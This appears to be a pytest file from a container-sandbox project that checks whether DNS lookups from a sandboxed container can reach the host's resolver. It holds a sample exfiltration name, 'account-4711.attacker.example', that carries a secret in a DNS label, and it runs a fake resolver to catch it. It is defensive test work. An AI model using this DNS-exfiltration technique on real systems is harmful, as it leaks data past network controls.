"""Attack: a container sends data out in the names that it resolves.

The Docker daemon would forward such questions to the resolvers of the host.
"""

import contextlib
import socket
import threading

import docker
import pytest

from engines.docker.engine import DEAD_RESOLVER
from tests.contracts.engine_acts import WAITS, Act, launch_run, wait_for_exit, wait_for_output
from tests.contracts.harnesses import DockerHarness
from tests.services.own_docker import BASE, OwnDocker, enter

NETWORK = "bfia-dns"
SECRET_NAME = "account-4711.attacker.example"
OTHER_NAME = "other.attacker.example"
# Prints the address of a name. Names of ".example" have no resolver: one short attempt is enough.
RESOLVE = """
import os, socket
name = {name!r}
if name.endswith(".example"):
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
try:
    print(socket.getaddrinfo(name, 80)[0][4][0])
except OSError as error:
    print("no answer")
"""
NO_SUCH_NAME = b"\x81\x83"  # flags of a DNS response: NXDOMAIN


def resolve_command(name):
    return ("python3", "-c", RESOLVE.format(name=name))


class DockerWithResolver(OwnDocker):
    """A daemon whose host has a resolver on its loopback, as most hosts have."""

    def __init__(self):
        super().__init__()
        self.questions = []  # received by the resolver
        self.configuration = self.home / "resolv.conf"
        self.configuration.write_text("nameserver 127.0.0.1\n")
        self._resolver = None
        is_open = threading.Event()
        threading.Thread(target=self._serve, args=(is_open,), daemon=True).start()
        assert is_open.wait(30)

    @property
    def inside(self):
        mount = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
        configuration = str(self.configuration)
        return [*super().inside, "unshare", "--mount", "sh", "-c", mount, configuration]

    def close(self):
        super().close()
        self._resolver.close()

    def _serve(self, is_open):
        enter(self.name)
        self._resolver = socket.socket(
            socket.AF_INET,
            socket.SOCK_DGRAM,
        )
        self._resolver.bind(("127.0.0.1", 53))
        is_open.set()
        with contextlib.suppress(OSError):  # closed
            while True:
                question, sender = self._resolver.recvfrom(4096)
                self.questions.append(question)
                response = question[:2] + NO_SUCH_NAME + question[4:]
                self._resolver.sendto(response, sender)

    def has_been_asked(self, name):
        """Return whether the resolver received a question about a name, by its first label."""
        label = name.partition(".")[0].encode()
        return any(label in question for question in self.questions)


@pytest.fixture
def own_docker():
    with contextlib.closing(DockerWithResolver()) as daemon:
        daemon.start()
        daemon.load(BASE)
        yield daemon


@pytest.fixture
def client(own_docker):
    """Give a client of the daemon."""
    with contextlib.closing(docker.DockerClient(own_docker.url)) as client:
        yield client


@pytest.mark.docker
@pytest.mark.own_docker
@pytest.mark.slow
def test_no_question_of_a_container_reaches_the_hosts_resolver(own_docker, client):
    """Names of its own network have an address: a gateway in a container needs that."""
    harness = DockerHarness(NETWORK)
    engine = harness.engine(base_url=own_docker.url)
    neighbour = launch_run(harness, engine, WAITS).name
    wait_for_output(engine, neighbour, b"ready")

    def resolve_in_container(name):
        spec = launch_run(
            harness,
            engine,
            Act(resolve_command(name)),
        )
        wait_for_exit(engine, spec.name)
        return engine.logs(spec.name).stdout.decode().strip()

    container = client.api.inspect_container(neighbour)
    assert container["HostConfig"]["Dns"] == [DEAD_RESOLVER]
    address = container["NetworkSettings"]["Networks"][NETWORK]["IPAddress"]
    assert resolve_in_container(neighbour) == address
    assert resolve_in_container(SECRET_NAME) == "no answer"
    assert not own_docker.has_been_asked(SECRET_NAME)

    # Any other container does reach the resolver.
    client.containers.run(
        BASE,
        list(resolve_command(OTHER_NAME)),
        network=NETWORK,
        remove=True,
    )
    assert own_docker.has_been_asked(OTHER_NAME)
    engine.remove(neighbour)
    engine.close()
